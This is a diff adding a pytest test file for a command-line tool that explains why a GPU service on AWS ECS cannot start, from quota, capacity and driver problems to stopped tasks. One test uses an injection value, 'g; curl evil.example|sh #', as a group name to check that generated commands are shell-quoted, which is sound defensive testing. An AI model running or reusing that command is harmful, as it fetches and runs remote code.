@@ -1,0 +1,344 @@
+"""Each layer is told apart, by the words that AWS uses."""
+
+from __future__ import annotations
+
+import json
+import shlex
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from gpu_constructs.account.live.described import answers, parsed
+from gpu_constructs.account.live.hosts import Cause, Layer
+from gpu_constructs.account.live.subjects import subject_called
+from gpu_constructs.account.live.verified import verify
+from gpu_constructs.account.live.waiting import why
+from gpu_constructs.cli.program import main
+from gpu_constructs.errors import GpuConstructsError
+
+from .given import VCPUS, Answer, cluster
+
+# Activities of Auto Scaling as users quote them:
+# https://github.com/aws-deepracer-community/deepracer-on-the-spot/issues/55,
+# https://github.com/dspace-group/dspace-reference-architecture-aws/issues/100 and
+# https://github.com/2i2c-org/infrastructure/issues/3334.
+SPOT = "Max spot instance count exceeded. Launching EC2 instance failed."
+ZONE = (
+    "Could not launch On-Demand Instances. Unsupported - Your requested instance type (p3.2xlarge) is not supported in "
+    "your requested Availability Zone (eu-central-1c). Please retry your request by not specifying an Availability "
+    "Zone or choosing eu-central-1a, eu-central-1b. Launching EC2 instance failed."
+)
+NONE_LEFT = (
+    "We currently do not have sufficient g4dn.xlarge capacity in the Availability Zone you requested (us-west-2a). Our "
+    "system will be working on provisioning additional capacity. You can currently get g4dn.xlarge capacity by not "
+    "specifying an Availability Zone in your request or choosing us-west-2b, us-west-2c. Launching EC2 instance failed."
+)
+OF_THE_GUIDE = (
+    "Could not launch On-Demand Instances. VcpuLimitExceeded - You have requested more vCPU capacity than your current "
+    "vCPU limit of 8 allows for the instance bucket that the specified instance type belongs to. Launching EC2 "
+    "instance failed."
+)
+STARTED: Answer = {"StatusCode": "Successful", "Description": "Launching a new EC2 instance: i-1"}
+FULL: Answer = {"MaxSize": 1, "DesiredCapacity": 1}
+
+
+def layers_of(answer: Answer) -> list[Layer]:
+    found = answers([answer])
+    return [each.layer for each in why(found, subject_called(found, "chat"), region="us-east-1").causes]
+
+
+@pytest.mark.parametrize(
+    ("answer", "expected"),
+    [
+        (cluster(activities=(VCPUS,)), [Layer.QUOTA, Layer.BUSY]),
+        (cluster(activities=(SPOT,)), [Layer.QUOTA, Layer.BUSY]),
+        (cluster(activities=(ZONE,)), [Layer.NOT_OFFERED, Layer.BUSY]),
+        (cluster(activities=(NONE_LEFT, VCPUS)), [Layer.QUOTA, Layer.CAPACITY, Layer.BUSY]),
+        (cluster(activities=(NONE_LEFT, STARTED, VCPUS)), [Layer.CAPACITY, Layer.BUSY]),
+        (cluster(activities=(STARTED, VCPUS)), [Layer.BUSY, Layer.STARTING]),
+        (cluster(activities=({"StatusCode": "InProgress"}, NONE_LEFT)), [Layer.CAPACITY, Layer.BUSY]),
+        (cluster(activities=("Invalid IAM Instance Profile name",)), [Layer.LAUNCH, Layer.BUSY]),
+        (cluster(group=FULL), [Layer.GROUP_MAXIMUM, Layer.BUSY]),
+        (cluster(), [Layer.BUSY, Layer.STARTING]),
+        (cluster(free=("GPU-1",)), [Layer.STARTING]),
+        (cluster(gpus=()), [Layer.GPU_NOT_REGISTERED]),
+        (cluster(required=("ecs.capability.efa",)), [Layer.ATTRIBUTE]),
+        (cluster(required=("a",), attributes=("a",), free=("GPU-1",)), [Layer.STARTING]),
+        (cluster(host={"agentConnected": False}), [Layer.NOT_JOINED]),
+        (cluster(host={"status": "DRAINING"}), [Layer.NOT_JOINED]),
+        (cluster(host={"ec2InstanceId": "i-2"}), [Layer.NOT_JOINED, Layer.BUSY]),
+        (cluster(group={"SuspendedProcesses": [{"ProcessName": "Launch"}]}), [Layer.NOT_SCALED, Layer.BUSY]),
+        (cluster(definition={"cpu": "8192"}), [Layer.NEVER_FITS]),
+    ],
+)
+def test_each_layer_is_told_from_the_others(answer: Answer, expected: list[Layer]) -> None:
+    assert layers_of(answer) == expected
+
+
+def test_a_quota_is_named_by_the_code_that_asks_for_more() -> None:
+    found = answers([cluster(activities=(VCPUS,))])
+    cause = why(found, subject_called(found, "chat"), region="us-east-1").causes[0]
+    assert "--quota-code L-DB2E81BA " in cause.fix
+    assert "current vCPU limit of 32" in cause.text
+
+
+def test_launches_that_failed_for_the_same_are_counted_with_the_time_of_the_last() -> None:
+    times = ("2026-11-22T18:31:48+00:00", "2026-11-22T18:20:03.120000+00:00")
+    failed: tuple[Answer, ...] = tuple({"StatusMessage": NONE_LEFT, "StartTime": each} for each in times)
+    found = answers([cluster(activities=failed)])
+    cause = why(found, subject_called(found, "chat"), region="us-east-1").causes[0]
+    assert cause.text.startswith("gpu-group cannot launch (2 launches, last at 2026-11-22 18:31 UTC): We currently do ")
+
+
+def test_the_guide_shows_what_the_command_prints(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    failed = {"StatusMessage": OF_THE_GUIDE, "StartTime": "2026-11-22T18:31:48+00:00"}
+    path = tmp_path / "answers.json"
+    path.write_text(json.dumps(cluster(activities=(failed,))), encoding="utf-8")
+    monkeypatch.setenv("COLUMNS", "80")
+    assert main(["why", "chat", str(path), "--region", "us-east-1"]) == 1
+    page = (Path(__file__).parents[3] / "docs" / "planning.md").read_text(encoding="utf-8")
+    assert f"$ gpu-constructs why chat --cluster demo --region us-east-1\n{capsys.readouterr().out}```\n" in page
+
+
+def test_a_provider_of_managed_instances_is_named_as_not_looked_at() -> None:
+    managed = {"name": "gpu", "status": "ACTIVE", "managedInstancesProvider": {}}
+    found = answers([{**cluster(), "capacityProviders": [managed]}])
+    diagnosis = why(found, subject_called(found, "chat"))
+    assert (diagnosis.causes, diagnosis.not_looked_at) == ((), ("how gpu starts hosts",))
+
+
+def test_a_task_that_stopped_says_why() -> None:
+    stopped = {
+        "taskArn": "arn:aws:ecs:us-east-1:123456789012:task/demo/0ab1",
+        "taskDefinitionArn": cluster()["services"][0]["taskDefinition"],
+        "lastStatus": "STOPPED",
+        "stoppedReason": "Essential container in task exited",
+        "containers": [{"name": "chat", "exitCode": 137, "reason": "OutOfMemoryError"}],
+    }
+    found = answers([cluster(), {"tasks": [stopped]}])
+    (cause,) = why(found, subject_called(found, "0ab1"), region=None).causes
+    assert cause.layer is Layer.STOPPED
+    assert cause.text == "1 task stopped: Essential container in task exited; chat: OutOfMemoryError"
+
+
+def test_tasks_that_a_service_no_longer_wanted_are_no_cause() -> None:
+    stopped = {"lastStatus": "STOPPED", "group": "service:chat"}
+    reasons = (
+        "Scaling activity initiated by (deployment ecs-svc/1)",
+        "Task failed ELB health checks in target-group 1",
+    )
+    found = answers([cluster(), {"tasks": [{**stopped, "stoppedReason": each} for each in reasons]}])
+    causes = why(found, subject_called(found, "chat")).causes
+    assert [each.text for each in causes if each.layer is Layer.STOPPED] == [f"1 task stopped: {reasons[1]}"]
+
+
+def test_answers_follow_one_another_in_one_pipe() -> None:
+    whole = cluster()
+    text = "\n".join(json.dumps({key: value}, indent=4) for key, value in whole.items())
+    assert answers(parsed(text, file="-")) == answers([whole])
+
+
+def of_container(**more: Any) -> Answer:
+    return {"containerDefinitions": [{"name": "chat", "memory": 512, **more}]}
+
+
+def of_gpus(*values: Any) -> Answer:
+    return of_container(resourceRequirements=[{"type": "GPU", "value": each} for each in values])
+
+
+@pytest.mark.parametrize(
+    ("definition", "problem"),
+    [
+        ({"containerDefinitions": 5}, "has no list of containers"),
+        ({"containerDefinitions": []}, "has no list of containers"),
+        ({"containerDefinitions": [5]}, "has no list of containers"),
+        (of_container(resourceRequirements=5), "not a list of types and values"),
+        (of_container(resourceRequirements=[{"type": 5, "value": "1"}]), "not a list of types and values"),
+        (of_gpus("9" * 5_000), "9… is not a number of GPUs"),
+        (of_gpus(5), "5 is not a number of GPUs"),
+        (of_container(memory="abc"), "Memory"),
+        ({"cpu": "x"}, "Cpu"),
+    ],
+)
+def test_a_task_definition_that_cannot_be_read_has_room_nowhere(definition: Answer, problem: str) -> None:
+    found = answers([cluster(free=("GPU-1",), definition=definition)])
+    verify(found)
+    with pytest.raises(GpuConstructsError, match=problem):
+        why(found, subject_called(found, "chat"), region="us-east-1")
+
+
+@pytest.mark.parametrize("name", ["Service", "Task", "Cluster", "Providers", "gpu", "gpuGroup", "chat"])
+def test_a_provider_may_be_called_anything(name: str) -> None:
+    whole = json.loads(json.dumps(cluster(group=FULL)).replace('"gpu"', json.dumps(name)))
+    assert layers_of(whole) == [Layer.GROUP_MAXIMUM, Layer.BUSY]
+
+
+def causes_of(answer: Answer, name: str = "chat") -> list[Cause]:
+    found = answers([answer])
+    return list(why(found, subject_called(found, name), region="us-east-1").causes)
+
+
+def scaled(answer: Answer, **more: Any) -> Answer:
+    """The answer with more of its service."""
+    return {**answer, "services": [{**answer["services"][0], **more}]}
+
+
+def without(answer: Answer, *names: str) -> Answer:
+    return {key: value for key, value in answer.items() if key not in names}
+
+
+def test_no_cause_is_made_up_where_the_capacity_providers_were_not_described() -> None:
+    answer = without(cluster(), "capacityProviders")
+    assert [each.layer for each in causes_of(answer)] == [Layer.BUSY]
+    eight = of_gpus("8")
+    answer = without(cluster(definition=eight), "capacityProviders", "AutoScalingGroups")
+    assert [each.layer for each in causes_of(answer)] == [Layer.NEVER_FITS]
+
+
+def test_a_provider_that_the_cluster_lacks_is_added_to_those_that_it_has() -> None:
+    answer = cluster()
+    named = {
+        **answer,
+        "clusters": [{"clusterName": "my demo", "capacityProviders": ["a", "b"]}],
+        "capacityProviders": [],
+    }
+    cause = causes_of(named)[0]
+    assert cause.text.startswith("the cluster has no such capacity provider; it has a and b. ")
+    assert cause.text.endswith("; the command replaces the whole list")
+    assert cause.fix == (
+        "aws ecs put-cluster-capacity-providers --cluster 'my demo' --capacity-providers a b gpu "
+        "--default-capacity-provider-strategy '[]' --region us-east-1"
+    )
+
+
+def test_names_in_commands_are_quoted() -> None:
+    name = "g; curl evil.example|sh #"
+    answer = json.loads(json.dumps(cluster(group={"SuspendedProcesses": [{"ProcessName": "Launch"}]})))
+    text = json.dumps(answer).replace("gpu-group", name)
+    fix = causes_of(json.loads(text))[0].fix
+    assert shlex.split(fix)[:5] == ["aws", "autoscaling", "resume-processes", "--auto-scaling-group-name", name]
+    assert fix.endswith(" --scaling-processes Launch --region us-east-1")
+
+
+def test_a_maximum_is_raised_to_what_the_missing_tasks_take() -> None:
+    four = tuple(f"GPU-{number}" for number in range(4))
+    (cause, *_) = causes_of(scaled(cluster(gpus=four, group=FULL), desiredCount=10, runningCount=4))
+    assert cause.fix.endswith("which is max_instances of the capacity, to 3 for 6 more tasks, or stop a task")
+
+
+@pytest.mark.parametrize("size", [10**4_000, 10**4_299])
+def test_numbers_that_no_answer_has_are_not_worked_with(size: int) -> None:
+    group = {"MaxSize": size, "DesiredCapacity": size, "Instances": []}
+    assert causes_of(cluster(activities=(VCPUS,), group=group))[0].fix.endswith(" 36 --region us-east-1")
+
+
+def test_a_maximum_that_is_not_described_is_not_reached() -> None:
+    (_, cause) = causes_of(cluster(group={"MaxSize": None}))
+    assert cause.text == "gpu-group has 1 host; how many it may have is not described"
+
+
+def test_several_hosts_are_said_in_one_sentence() -> None:
+    host = cluster()["containerInstances"][0]
+    hosts = [{**host, "ec2InstanceId": f"i-{number}"} for number in range(5)]
+    answer = {**cluster(group=FULL), "containerInstances": hosts}
+    some = "i-0 (g6.xlarge), i-1 (g6.xlarge), i-2 (g6.xlarge)"
+    said = f"5 of 5 hosts: each of {some} and 2 more is busy: 1 GPU asked, 0 free"
+    assert causes_of(answer)[1].text == said
+
+
+def test_without_a_strategy_hosts_are_counted_for_all_tasks_that_are_missing() -> None:
+    answer = scaled(cluster(), capacityProviderStrategy=[], launchType="EC2", desiredCount=2)
+    cause = causes_of(answer)[0]
+    assert cause.text == "it has launch type EC2 and no capacity provider strategy, so that nothing starts hosts for it"
+    assert cause.fix == "a capacity provider strategy with managed scaling, or 2 more hosts for 2 more tasks"
+    cause = causes_of({**answer, "containerInstances": []})[0]
+    assert (cause.text.endswith("; the cluster has no hosts"), "or hosts for 2 more tasks" in cause.fix) == (True, True)
+
+
+def test_larger_types_of_the_own_family_come_first_then_the_cheapest_that_are_current() -> None:
+    (cause,) = causes_of(cluster(definition=of_gpus("8")))
+    assert cause.fix.startswith("launch g6.48xlarge, g4dn.metal or p4d.24xlarge, or ")
+
+
+@pytest.mark.parametrize(
+    ("name", "hint"), [("chatt", "did you mean chat?"), ("deadbeef", "the answers have chat and ml")]
+)
+def test_a_name_that_is_not_there_is_answered_with_names_like_it(name: str, hint: str) -> None:
+    found = answers([cluster(), {"services": [{"serviceName": "ml"}]}])
+    with pytest.raises(GpuConstructsError) as refused:
+        subject_called(found, name)
+    assert str(refused.value).endswith(f"; fix: {hint}")
+
+
+def test_a_service_that_several_answers_describe_is_one_service() -> None:
+    found = answers([cluster(), scaled(cluster(), runningCount=1)])
+    assert not why(found, subject_called(found, "chat")).waits
+    twice = answers([cluster(), scaled(cluster(), clusterArn="arn:aws:ecs:us-east-1:1:cluster/other")])
+    with pytest.raises(GpuConstructsError, match="is a service of several clusters"):
+        subject_called(twice, "chat")
+
+
+def test_only_the_name_is_required(capsys: pytest.CaptureFixture[str]) -> None:
+    assert main(["why"]) == 2
+    assert "required: NAME\n" in capsys.readouterr().err
+
+
+def stopped_for(condition: str) -> Answer:
+    reason = f"nvidia-container-cli: requirement error: unsatisfied condition: {condition}, please update your driver"
+    host = cluster()["containerInstances"][0]["containerInstanceArn"]
+    container = {"name": "chat", "reason": reason}
+    task = {"lastStatus": "STOPPED", "group": "service:chat", "containerInstanceArn": host, "containers": [container]}
+    return {**cluster(group=FULL), "tasks": [task]}
+
+
+@pytest.mark.parametrize(
+    ("condition", "driver"),
+    [
+        ("cuda>=13.0", "driver branch 580 or later, such as al2023-gpu with driver 580.178.04"),
+        ("cuda>=13.9", "a driver for CUDA 13.9"),
+        ("cuda>=99.0", "a driver for CUDA 99.0"),
+    ],
+)
+def test_a_driver_that_is_too_old_comes_before_a_larger_maximum(condition: str, driver: str) -> None:
+    found = causes_of(stopped_for(condition))
+    assert [each.layer for each in found] == [Layer.DRIVER, Layer.GROUP_MAXIMUM, Layer.BUSY]
+    assert (found[0].where, condition in found[0].text) == ("i-1 (g6.xlarge)", True)
+    assert found[0].text.startswith(
+        f"the driver of its AMI is older than {condition[:4].upper()} {condition[6:]}, which "
+    )
+    other = "run a container image that is built for an older CUDA"
+    assert found[0].fix == f"launch the hosts from an image with {driver}, or {other}"
+    assert causes_of(stopped_for("brand=tesla"))[-1].layer is Layer.STOPPED
+
+
+def waits(answer: Answer, tmp_path: Path, *words: str) -> int:
+    path = tmp_path / "answers.json"
+    path.write_text(json.dumps(answer), encoding="utf-8")
+    return main(["why", "chat", str(path), *words])
+
+
+def test_a_cause_that_is_not_found_is_said(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    answer = without(cluster(), "capacityProviders", "containerInstances")
+    assert waits(answer, tmp_path) == 1
+    assert "\nno cause in what was given\n" in capsys.readouterr().out
+
+
+def test_programs_read_the_state_in_numbers(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    assert waits(cluster(), tmp_path, "--format", "json") == 1
+    facts = json.loads(capsys.readouterr().out)
+    named = {"kind": "service", "name": "chat", "cluster": "demo", "verdict": "waits"}
+    assert facts.items() >= {**named, "desired": 1, "running": 0, "pending": 0}.items()
+
+
+def test_names_are_on_lines_of_their_own_where_a_terminal_is_narrow(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    monkeypatch.setenv("COLUMNS", "40")
+    long = json.loads(json.dumps(cluster(group=FULL)).replace('"gpu"', '"Ml-ClusterL4Provider-S51QJUOWRS"'))
+    waits(long, tmp_path)
+    said = capsys.readouterr().out
+    assert "\nmaximum of the group:\n  Ml-ClusterL4Provider-S51QJUOWRS\n" in said
+    assert max(map(len, said.splitlines())) <= 40
